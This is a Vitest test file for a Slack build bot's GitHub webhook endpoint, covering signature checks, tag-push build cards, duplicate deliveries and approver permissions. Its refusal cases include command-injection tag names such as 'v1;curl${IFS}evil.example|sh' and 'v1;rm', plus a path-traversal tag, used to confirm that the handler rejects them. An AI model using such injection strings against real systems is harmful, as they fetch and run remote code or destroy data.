import type { LambdaFunctionURLEvent } from 'aws-lambda';
import { describe, expect, it } from 'vitest';
import { APPROVER, NOT_MEMBER_CHANNEL, ONLOOKER, SANDBOX_CHANNEL } from '../../stand-ins/slack-api';
import { SANDBOX_GITHUB_REPOSITORY, SANDBOX_GITHUB_WEBHOOK_SECRET, githubDeliveryEvent, githubSignature, pushPayload } from '../../stand-ins/github-request';
import type { Answer, Env } from '../support/bot-world';
import { invoke, useWorld } from '../support/bot-world';

// `/github/webhook` through the real bot handler (docs/design.md "Builds requested by GitHub"):
// a signed tag push posts the card `/metal-build <tag> <commit>` would; everything else answers
// and changes nothing. Each refusal checks the table, Slack's calls and the bus afterwards.

const world = useWorld();

const COMMIT = '3f786850e387550fdab836ed7e6dc881de23001b';
const GITHUB: Env = {
  GITHUB_REPOSITORY: SANDBOX_GITHUB_REPOSITORY,
  GITHUB_CHANNEL_ID: SANDBOX_CHANNEL,
  GITHUB_WEBHOOK_SECRET: SANDBOX_GITHUB_WEBHOOK_SECRET,
};
const REFUSED = 'refused a GitHub delivery with an invalid signature';

const send = (event: LambdaFunctionURLEvent, env: Env = {}) => invoke(world().bot({ ...GITHUB, ...env }).handler, event);

/** A delivery, then the proof it changed nothing: same items, no Slack call, no event. */
async function sendAndExpectNothingDone(event: LambdaFunctionURLEvent, env: Env = {}): Promise<Answer> {
  const itemsBefore = await world().dynamo.items();
  const callsBefore = world().slack.calls.length;
  world().log.lines.length = 0;
  const answer = await send(event, env);
  expect(await world().dynamo.items()).toEqual(itemsBefore);
  expect(world().slack.calls).toHaveLength(callsBefore);
  expect(world().bus()).toEqual([]);
  return answer;
}

const cards = () =>
  world()
    .slack.messages(SANDBOX_CHANNEL)
    .filter((m) => m.thread_ts === undefined || m.thread_ts === m.ts);

describe('the signature, checked before anything is parsed', () => {
  const body = JSON.stringify(pushPayload());
  const cases: Array<[string, LambdaFunctionURLEvent, string, Env?]> = [
    ['missing', githubDeliveryEvent(body, { signature: null }), 'no signature'],
    ['malformed', githubDeliveryEvent(body, { signature: 'sha1=abc' }), 'malformed signature'],
    ['over another body', githubDeliveryEvent(body, { sentBody: JSON.stringify(pushPayload({ tag: 'v9.9.9' })) }), 'wrong signature'],
    ['under another secret', githubDeliveryEvent(body, { secret: 'not-the-test-secret' }), 'wrong signature'],
    ['with no webhook secret configured', githubDeliveryEvent(body), 'no webhook secret configured', { GITHUB_WEBHOOK_SECRET: '' }],
  ];

  it.each(cases)('%s: 401, nothing changed, one warn line without the signature or body', async (_name, event, reason, env) => {
    const answer = await sendAndExpectNothingDone(event, env);
    expect(answer.statusCode).toBe(401);
    expect(world().log.lines).toEqual([expect.objectContaining({ level: 'WARN', message: REFUSED, reason })]);
    const logged = JSON.stringify(world().log.lines);
    expect(logged).not.toContain(SANDBOX_GITHUB_WEBHOOK_SECRET);
    expect(logged).not.toContain(githubSignature(body, SANDBOX_GITHUB_WEBHOOK_SECRET).slice(7));
    expect(logged).not.toContain(COMMIT);
  });

  it('a Slack-signed request at the GitHub path is refused too', async () => {
    const event = githubDeliveryEvent(body, { signature: null });
    event.headers['x-slack-signature'] = 'v0=' + '0'.repeat(64);
    expect((await sendAndExpectNothingDone(event)).statusCode).toBe(401);
  });
});

describe('a tag push posts one card', () => {
  it('the card `/metal-build v1.4.0 <commit>` would post, requested by GitHub, no mention, no DM', async () => {
    const answer = await send(githubDeliveryEvent(pushPayload()));
    expect(answer.statusCode).toBe(201);

    const [build] = await world().builds();
    expect(build).toMatchObject({
      Status: 'awaiting_approval',
      BuildBranch: 'v1.4.0',
      BuildCommit: COMMIT,
      Requester: 'github',
      GithubLogin: 'octocat',
      Channel: SANDBOX_CHANNEL,
    });
    expect(cards()).toHaveLength(1);
    const card = JSON.stringify(cards()[0]);
    expect(card).toContain(`GitHub: tag <https://github.com/${SANDBOX_GITHUB_REPOSITORY}/tree/v1.4.0|\`v1.4.0\`> pushed by octocat`);
    // Nobody is mentioned as the requester, and nobody is messaged directly.
    expect(JSON.stringify(world().slack.calls)).not.toContain('<@github>');
    expect(
      world()
        .slack.callsTo('chat.postMessage')
        .every((c) => (c.args as { channel?: string }).channel === SANDBOX_CHANNEL),
    ).toBe(true);
    expect(world().bus()).toEqual([]);
  });

  it('the same card as the slash command: same estimate and fields', async () => {
    await send(githubDeliveryEvent(pushPayload()));
    const bot = world().bot(GITHUB);
    await bot.command(`v1.4.0 ${COMMIT}`);
    const [byGithub, bySlack] = (await world().builds()).sort((a, b) => (a.Requester === 'github' ? -1 : b.Requester === 'github' ? 1 : 0));
    const same = ['BuildBranch', 'BuildCommit', 'CostEstimate', 'CostMax', 'RequestedType', 'LimitHours', 'ExpectedHours'] as const;
    for (const key of same) expect(byGithub![key]).toEqual(bySlack![key]);
  });

  it('one delivery sent 5 times at once: one card', async () => {
    const event = githubDeliveryEvent(pushPayload(), { delivery: 'd-five' });
    const bot = world().bot(GITHUB);
    const answers = await Promise.all([1, 2, 3, 4, 5].map(() => invoke(bot.handler, event)));
    expect(answers.map((a) => a.statusCode).sort()).toEqual([200, 200, 200, 200, 201]);
    expect(await world().builds()).toHaveLength(1);
    expect(cards()).toHaveLength(1);
  });

  it('the same tag and commit under a new delivery id: nothing more', async () => {
    await send(githubDeliveryEvent(pushPayload()));
    const callsBefore = world().slack.calls.length;
    const answer = await send(githubDeliveryEvent(pushPayload()));
    expect(answer.statusCode).toBe(200);
    expect(await world().builds()).toHaveLength(1);
    expect(world().slack.calls).toHaveLength(callsBefore);
  });

  it('an annotated tag: the commit is head_commit.id, not `after` (the tag object)', async () => {
    await send(githubDeliveryEvent(pushPayload({ after: 'b'.repeat(40) })));
    expect((await world().builds())[0]).toMatchObject({ BuildCommit: COMMIT });
  });

  it('GITHUB_TAG_PATTERN chooses the tags; the repository is compared without case', async () => {
    const env = { GITHUB_TAG_PATTERN: 'release-*' };
    expect((await send(githubDeliveryEvent(pushPayload({ tag: 'v1.4.0' })), env)).statusCode).toBe(204);
    const answer = await send(githubDeliveryEvent(pushPayload({ tag: 'release-7', repository: 'AFEWELL-HH/LabApp' })), env);
    expect(answer.statusCode).toBe(201);
    expect((await world().builds()).map((b) => b.BuildBranch)).toEqual(['release-7']);
  });

  it('the card cannot be posted: claims given back, so GitHub’s redelivery posts it', async () => {
    const event = githubDeliveryEvent(pushPayload(), { delivery: 'd-redelivered' });
    expect((await send(event, { GITHUB_CHANNEL_ID: NOT_MEMBER_CHANNEL })).statusCode).toBe(503);
    expect(await world().builds()).toEqual([]);
    expect((await send(event)).statusCode).toBe(201);
    expect(await world().builds()).toHaveLength(1);
  });
});

describe('what posts nothing', () => {
  const nothing: Array<[string, LambdaFunctionURLEvent, number]> = [
    ['a ping', githubDeliveryEvent({ zen: 'Keep it logically awesome.', hook_id: 1 }, { event: 'ping' }), 200],
    ['another event', githubDeliveryEvent({ action: 'opened' }, { event: 'issues' }), 204],
    ['a branch push', githubDeliveryEvent(pushPayload({ ref: 'refs/heads/main' })), 204],
    ['a deleted tag', githubDeliveryEvent(pushPayload({ deleted: true })), 204],
    ['another repository', githubDeliveryEvent(pushPayload({ repository: 'someone/labapp' })), 204],
    ['a tag outside the pattern', githubDeliveryEvent(pushPayload({ tag: 'nightly' })), 204],
    ['a hostile tag name', githubDeliveryEvent(pushPayload({ tag: 'v1;curl${IFS}evil.example|sh' })), 204],
    ['a tag that mentions the channel', githubDeliveryEvent(pushPayload({ tag: 'v<!channel>' })), 204],
    ['a tag with ".."', githubDeliveryEvent(pushPayload({ tag: 'v1/../../x' })), 204],
    ['a signed body that is not JSON', githubDeliveryEvent('}{'), 400],
  ];

  it.each(nothing)('%s: %i, nothing written, posted or put', async (_name, event, status) => {
    expect((await sendAndExpectNothingDone(event)).statusCode).toBe(status);
  });

  it('a signed push without X-GitHub-Delivery: 400, nothing posted', async () => {
    const event = githubDeliveryEvent(pushPayload());
    delete event.headers['x-github-delivery'];
    expect((await sendAndExpectNothingDone(event)).statusCode).toBe(400);
  });

  it('without GITHUB_REPOSITORY a push posts nothing', async () => {
    expect((await sendAndExpectNothingDone(githubDeliveryEvent(pushPayload()), { GITHUB_REPOSITORY: '', GITHUB_CHANNEL_ID: '' })).statusCode).toBe(204);
  });

  it('a hostile tag is logged as a warning naming the rule', async () => {
    await sendAndExpectNothingDone(githubDeliveryEvent(pushPayload({ tag: 'v1;rm' })));
    expect(world().log.lines).toEqual([expect.objectContaining({ level: 'WARN', message: 'GitHub push refused; nothing posted' })]);
  });
});

describe('a GitHub build is approved and stopped by approvers only', () => {
  it('an approver approves it; someone else cannot cancel it; an approver can', async () => {
    await send(githubDeliveryEvent(pushPayload()));
    const [build] = await world().builds();
    const bot = world().bot(GITHUB);

    await bot.click('cancel_build', build!.BuildID, ONLOOKER);
    expect((await world().build(build!.BuildID))!.Status).toBe('awaiting_approval');
    expect(world().ephemerals(ONLOOKER).join('\n')).toContain('Only the requester');

    await bot.click('approve_build', build!.BuildID, APPROVER);
    expect((await world().build(build!.BuildID))!.Status).toBe('approved');
    expect(world().bus()).toEqual([['Build Approved', { buildId: build!.BuildID }]]);

    await bot.click('cancel_build', build!.BuildID, APPROVER);
    expect((await world().build(build!.BuildID))!.Status).toBe('cancelled');
  });
});
